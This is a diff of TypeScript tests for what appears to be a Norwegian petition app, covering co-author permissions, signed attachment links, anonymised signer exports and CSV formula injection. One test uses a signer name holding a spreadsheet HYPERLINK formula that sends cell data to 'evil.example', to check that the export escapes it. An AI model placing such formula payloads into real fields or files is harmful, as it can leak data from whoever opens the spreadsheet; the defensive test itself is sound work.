@@ -468,6 +468,38 @@ describe('co-authors', () => {
     ).toHaveLength(2);
   });
 
+  it('leaves state and the author list to the initiator: a co-author cannot publish, close, archive or invite', async () => {
+    const owner = await t.session();
+    const colleague = await t.session();
+    const d = await draft(owner);
+    await t.call(ep.addManualAuthor, { as: owner, params: { id: d.id }, body: { name: 'Kollega', user_id: colleague.user.id } });
+    await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: d.id } });
+    const refused = async (body: BodyIn<typeof ep.update>) => {
+      const res = await t.call(ep.update, { as: colleague, params: { id: d.id }, body });
+      return [res.status, res.error.reason];
+    };
+    expect(await refused({ visibility: 'open' })).toEqual([403, 'not_owner']);
+    expect((await t.call(ep.update, { as: owner, params: { id: d.id }, body: { visibility: 'open' } })).status).toBe(200);
+    expect(await refused({ status: 'closed' })).toEqual([403, 'not_owner']);
+    // The hostile tester's case: archiving is final, and DELETE already refused co-authors.
+    expect(await refused({ visibility: 'archived' })).toEqual([403, 'not_owner']);
+    expect(await refused({ summary: 'Ny tekst', visibility: 'archived' })).toEqual([403, 'not_owner']);
+    const shown = (await t.call(ep.show, { as: owner, params: { id: d.id } })).parsed.data;
+    expect(shown).toMatchObject({ status: 'active', is_archived: false });
+    expect(shown.summary).not.toBe('Ny tekst');
+    // A plain edit stays open to co-authors.
+    expect((await t.call(ep.update, { as: colleague, params: { id: d.id }, body: { recipient: 'Stortinget' } })).parsed.data.recipient).toBe('Stortinget');
+    // Inviting further co-authors, named or with an account, is the initiator's.
+    const third = await t.session();
+    for (const body of [{ name: 'Tredje', user_id: third.user.id }, { name: 'Uten konto', title: 'Overlege' }]) {
+      const res = await t.call(ep.addManualAuthor, { as: colleague, params: { id: d.id }, body });
+      expect([res.status, res.error.reason]).toEqual([403, 'not_owner']);
+    }
+    expect((await t.call(ep.manualAuthors, { as: owner, params: { id: d.id } })).parsed.data.map((a) => a.name)).toEqual(['Kollega']);
+    await settleJobs(t);
+    expect(await t.db.select().from(schema.notifications).where(eq(schema.notifications.user_id, third.user.id))).toEqual([]);
+  });
+
   it('removes co-authors: the initiator until the first signature, a co-author themselves at any time', async () => {
     const owner = await t.session();
     const colleague = await t.session();
@@ -867,6 +899,15 @@ describe('attachments', () => {
     expect(Object.keys(fake.validation.errors)).toEqual(['pdf_files[]']);
     const shown = await t.call(ep.show, { as: me, params: { id: d.id } });
     expect(shown.parsed.data.attachments).toHaveLength(1);
+    // A members-only kind: the links are signed, and they download (the detail's and the authors' list alike).
+    const listed = (await t.call(ep.attachments, { as: me, params: { id: d.id } })).parsed.data;
+    for (const url of [shown.parsed.data.attachments[0]!.url, listed[0]!.url]) {
+      expect(url).toMatch(/^\/api\/files\/.+\?expires=\d+&signature=/);
+      const download = await t.http.get(url!).buffer(true);
+      expect(download.status).toBe(200);
+      expect(download.headers['content-disposition']).toContain('bakgrunn.pdf');
+      expect(Buffer.from(download.body as Buffer).equals(pdf)).toBe(true);
+    }
     const other = await t.session();
     expect(
       (
@@ -930,12 +971,25 @@ describe('exports', () => {
       .buffer(true)
       .parse(binary as never);
 
+  it('writes a name that is a spreadsheet formula as text in the CSV (OWASP: a leading quote)', async () => {
+    const owner = await t.session();
+    const p = await published(owner);
+    const evil = await t.session({ firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', lastName: token });
+    await t.call(ep.sign, { as: evil, params: { id: p.id }, body: {} });
+    const plus = await t.session({ firstName: '@SUM(1+1)', lastName: token });
+    await t.call(ep.sign, { as: plus, params: { id: p.id }, body: { anonymous: true } });
+    const csv = await t.call(ep.export, { as: owner, params: { id: p.id }, query: { format: 'csv' }, locale: 'en' });
+    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
+    expect(lines[1]!.startsWith(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") ${token}",`)).toBe(true);
+    expect(lines[2]!.startsWith(`'@SUM(1+1) ${token},`)).toBe(true);
+  });
+
   it('streams the signature list as CSV, XLSX and PDF to the initiator only', async () => {
     const owner = await t.session();
     const p = await published(owner);
     const named = await t.session({ firstName: 'Åse', lastName: `Ærlig ${token}` });
     await t.call(ep.sign, { as: named, params: { id: p.id }, body: {} });
-    const anonymous = await t.session();
+    const anonymous = await t.session({ firstName: 'Skjult', lastName: `Signatar ${token}` });
     await t.call(ep.sign, { as: anonymous, params: { id: p.id }, body: { anonymous: true } });
 
     const csv = await t.call(ep.export, {
@@ -952,9 +1006,19 @@ describe('exports', () => {
       .trim()
       .split('\n');
     expect(lines[0]).toBe('Name,Profession,Specialty,County,Date');
-    // The owner's export names everyone, anonymous signers too.
+    // Anonymous means anonymous in the initiator's export too: counted, named by profession only.
     expect(lines).toHaveLength(3);
     expect(lines[1]).toContain(`Åse Ærlig ${token},Doctor`);
+    expect(lines[2]).toMatch(/^Anonymous \(verified doctor\),Doctor,,,/);
+    expect(csv.text).not.toContain('Skjult');
+
+    // Norwegian: semicolons (Excel in Norwegian splits on them), the byte-order mark, readable values.
+    const norwegian = await t.call(ep.export, { as: owner, params: { id: p.id }, query: { format: 'csv' }, locale: 'no' });
+    expect(norwegian.text.startsWith('\uFEFF')).toBe(true);
+    const rows = norwegian.text.replace(/^\uFEFF/, '').trim().split('\n');
+    expect(rows[0]).toBe('Navn;Yrke;Spesialitet;Fylke;Dato');
+    expect(rows[1]).toContain(`Åse Ærlig ${token};Lege`);
+    expect(rows[2]).toMatch(/^Anonym \(verifisert lege\);Lege;;;/);
 
     const xlsx = await download(owner, p.id, 'xlsx');
     expect(xlsx.status).toBe(200);
@@ -964,6 +1028,7 @@ describe('exports', () => {
     const sheet = book.worksheets[0]!;
     expect(sheet.rowCount).toBe(3);
     expect(sheet.getRow(2).getCell(1).value).toBe(`Åse Ærlig ${token}`);
+    expect(String(sheet.getRow(3).getCell(1).value)).toMatch(/^Anonym/);
 
     const pdf = await download(owner, p.id, 'pdf');
     expect(pdf.status).toBe(200);
